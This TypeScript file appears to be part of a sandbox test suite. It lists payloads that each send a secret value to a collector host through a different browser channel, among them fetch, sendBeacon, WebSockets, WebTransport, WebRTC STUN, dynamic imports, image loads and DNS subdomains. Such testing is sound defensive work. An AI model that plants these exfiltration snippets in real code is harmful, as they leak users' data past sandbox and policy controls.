import type { Payload } from '../payload.ts';
import { byScript, sameText, soon } from './sameText.ts';

/** The plain ways of asking, each by the same text in the cage and in the page that nobody guards. */
export const fetching: readonly Payload[] = [
	sameText('fetch', 'fetch', ({ http }) => `await fetch('${http}?' + secret, { mode: 'no-cors' })`),
	sameText(
		'fetch-post',
		'fetch',
		({ http }) =>
			`await fetch('${http}', { method: 'POST', body: btoa(secret), mode: 'no-cors', keepalive: true })`
	),
	sameText(
		'xhr',
		'XMLHttpRequest',
		({ http }) =>
			`const asked = new XMLHttpRequest(); asked.open('GET', '${http}?' + secret, false); asked.send()`
	),
	sameText('send-beacon', 'sendBeacon', ({ http }) => `navigator.sendBeacon('${http}', secret)`),
	sameText(
		'event-source',
		'EventSource',
		({ http }) => `new EventSource('${http}x.events?' + secret); await ${soon}`
	),
	sameText(
		'web-socket',
		'WebSocket',
		({ ws }) =>
			`const socket = new WebSocket('${ws}?' + secret); socket.onopen = () => socket.send(secret); await ${soon}`
	),
	sameText(
		'web-socket-stream',
		'WebSocketStream',
		({ ws }) => `await new WebSocketStream('${ws}?' + secret).opened`,
		{ without: ['firefox'] }
	),
	sameText(
		'fetch-later',
		'fetchLater',
		({ http }) => `fetchLater('${http}?' + secret, { activateAfter: 0 }); await ${soon}`,
		{
			without: ['firefox']
		}
	),
	sameText(
		'web-transport',
		'WebTransport',
		({ https }) => `await new WebTransport('${https}?' + secret).ready`
	),
	sameText('dynamic-import', 'import()', ({ http }) => `await import('${http}x.js?' + secret)`),
	sameText(
		'import-scripts',
		'importScripts',
		({ http }) => `globalThis.importScripts('${http}x.js?' + secret)`,
		{
			control: byScript(
				({ http }) =>
					`new Worker(URL.createObjectURL(new Blob(["importScripts('${http}x.js?" + secret + "')"])))`
			)
		}
	),
	sameText(
		'image-object',
		'new Image',
		({ http }) => `new Image().src = '${http}x.svg?' + secret; await ${soon}`
	),
	sameText(
		'web-rtc-stun',
		'WebRTC',
		({ udp }) =>
			`const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp}' }] });\npeer.createDataChannel(secret);\nawait peer.setLocalDescription(await peer.createOffer());\nawait ${soon}`
	),
	sameText('host-name', 'DNS', ({ host }) => `await fetch('http://' + secret + '.${host}/')`)
];
